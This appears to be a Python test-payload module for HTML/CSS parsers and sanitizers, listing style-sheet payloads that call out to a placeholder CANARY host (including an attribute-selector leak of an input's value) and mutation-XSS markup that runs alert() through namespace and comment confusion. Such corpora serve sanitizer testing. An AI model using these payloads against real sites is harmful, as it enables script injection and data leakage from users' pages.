"""Payloads for parsers: style sheets that reach out, and markup that changes when it is read again."""

from __future__ import annotations

STYLES = r"""
<style>@import "http://CANARY/NUM/import.css";</style>
<style>@import url(//CANARY/NUM/import2.css);</style>
<style>b{background:url(http://CANARY/NUM/bg.png)}</style><b>x</b>
<b style="background:url(http://CANARY/NUM/attr.png)">x</b>
<b style="background:url('http://CANARY/NUM/quoted.png')">x</b>
<b style="background:\75 rl(http://CANARY/NUM/escaped.png)">x</b>
<b style="background:image-set('http://CANARY/NUM/set.png' 1x)">x</b>
<b style="background:-webkit-image-set(url(http://CANARY/NUM/wset.png) 1x)">x</b>
<b style="--x:url(http://CANARY/NUM/var.png);background:var(--x)">x</b>
<b style="cursor:url(http://CANARY/NUM/cur.cur),auto;list-style:url(http://CANARY/NUM/list.png);display:list-item">x</b>
<b style="mask:url(http://CANARY/NUM/mask.svg#m);filter:url(http://CANARY/NUM/f.svg#f)">x</b>
<b style="clip-path:url(http://CANARY/NUM/clip.svg#c);shape-outside:url(http://CANARY/NUM/shape.png)">x</b>
<b style="border-image:url(http://CANARY/NUM/border.png) 1;content:url(http://CANARY/NUM/content.png)">x</b>
<style>b::before{content:url(http://CANARY/NUM/before.png)}</style><b>x</b>
<style>@font-face{font-family:z;src:url(http://CANARY/NUM/font.woff2)}b{font-family:z}</style><b>x</b>
<style>input[value^="s"]{background:url(http://CANARY/NUM/leak-s)}</style><input value=secret>
<style>@namespace url(http://CANARY/NUM/ns);@document url(http://CANARY/NUM/){b{}}</style><b>x</b>
<style>b{}</style/><img src=x onerror=alert(NUM)>
<style><img src="</style><img src=x onerror=alert(NUM)//">
<style>b::after{content:"</style><img src=x onerror=alert(NUM)>"}</style><b>x</b>
<b style="font-family:'</style><script>alert(NUM)</script>'">x</b>
<b style="font-family:'x;}</style><img/src/onerror=alert(NUM)>">x</b>
<b style="background:url(javascript:alert(NUM))">x</b>
<b style="width:expression(alert(NUM))">x</b>
<b style="behavior:url(http://CANARY/NUM/x.htc)">x</b>
<b style="-moz-binding:url(http://CANARY/NUM/x.xml#x)">x</b>
<b style="width:ex/**/pression(alert(NUM))">x</b>
<b style="color:red;}*{background:url(http://CANARY/NUM/out.png)}">x</b>
<svg><style><img src=x onerror=alert(NUM)></style></svg>
<svg><rect fill="url(http://CANARY/NUM/paint.svg#p)" width=9 height=9 /></svg>
<svg><style>@import"http://CANARY/NUM/svg.css";</style></svg>
<style>@keyframes k{from{background:url(http://CANARY/NUM/key.png)}}b{animation:k 9s}</style><b>x</b>
<style>@property --p{syntax:"<url>";inherits:false;initial-value:url(http://CANARY/NUM/prop.png)}b{background:var(--p)}</style><b>x</b>
<style>@media all{@supports(color:red){b{background:url("http://CANARY/NUM/media.png")}}}</style><b>x</b>
<style>@container(min-width:1px){b{background:url(http://CANARY/NUM/cont.png)}}:root{container-type:size}</style><b>x</b>
"""

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=alert(NUM)>"></noscript>
<noembed><img title="</noembed><img src=x onerror=alert(NUM)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(NUM)>"></noframes>
<xmp><p title="</xmp><img src=x onerror=alert(NUM)>"></xmp>
<textarea><p title="</textarea><img src=x onerror=alert(NUM)>"></textarea>
<title><p title="</title><img src=x onerror=alert(NUM)>"></title>
<iframe><p title="</iframe><img src=x onerror=alert(NUM)>"></iframe>
<template><img src=x onerror=alert(NUM)></template><script>document.write(document.querySelector("template").innerHTML)</script>
<template shadowrootmode=open><img src=x onerror=alert(NUM)></template>
<div><template shadowrootmode=open><script>alert(NUM)</script><slot></slot></template>x</div>
<svg></p><style><a id="</style><img src=x onerror=alert(NUM)>">
<svg><p><style><a title="</style><img src=x onerror=alert(NUM)>"></p></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(NUM)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(NUM)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(NUM)></style></annotation-xml></math>
<math><mi><table><mglyph><svg><mtext><style><path id="</style><img onerror=alert(NUM) src=x>">
<svg><foreignObject><img src=x onerror=alert(NUM)></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(NUM)</script>"></iframe></foreignObject></svg>
<svg><desc><img src=x onerror=alert(NUM)></desc></svg>
<svg><title><img src=x onerror=alert(NUM)></title></svg>
<svg><![CDATA[><img src=x onerror=alert(NUM)>]]></svg>
<math><![CDATA[<img src=x onerror=alert(NUM)>]]></math>
<![CDATA[<img src=x onerror=alert(NUM)>]]>
<!--><img src=x onerror=alert(NUM)>-->
<!--><img src=x onerror=alert(NUM)>
<!-- --!><img src=x onerror=alert(NUM)> -->
<!--[if gte IE 4]><script>alert(NUM)</script><![endif]-->
<?xml-stylesheet href="javascript:alert(NUM)"?><img src=x onerror=alert(NUM)>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(NUM)>">]>&y;
<table><tr><td><svg><desc><table><tr></td><img src=x onerror=alert(NUM)>
<select><template><img src=x onerror=alert(NUM)></template></select><img src=x onerror=alert(NUM)>
<select><option><style></option></select><img src=x onerror=alert(NUM)></style>
<a><table><a><img src=x onerror=alert(NUM)></table>
<p><svg><p><img src=x onerror=alert(NUM)>
<plaintext><img src=x onerror=alert(NUM)>
<listing>&lt;img src=x onerror=alert(NUM)&gt;</listing>
<image src=x onerror=alert(NUM)>
<isindex type=image src=x onerror=alert(NUM)>
<img src="x` `<script>alert(NUM)</script>"` `>
<img alt="`><img src=x onerror=alert(NUM)>">
"""  # noqa: E501 - a payload is one line
